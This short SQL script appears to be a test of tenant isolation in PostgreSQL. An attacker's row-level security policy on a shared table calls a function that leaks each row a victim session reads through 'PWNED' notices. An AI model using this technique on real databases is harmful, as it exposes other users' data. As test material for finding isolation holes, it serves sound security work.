-- A policy of the attacker's on a shared table hides rows from others and sees what they read.
CREATE FUNCTION spies(text) RETURNS bool LANGUAGE plpgsql AS $$ BEGIN RAISE NOTICE 'PWNED %', $1; RETURN true; END $$;
ALTER TABLE public.shared ENABLE ROW LEVEL SECURITY;
ALTER TABLE public.shared FORCE ROW LEVEL SECURITY;
CREATE POLICY spies ON public.shared USING (tenant_alpha.spies(note));
-- @session victim
SELECT count(*) FROM shared;
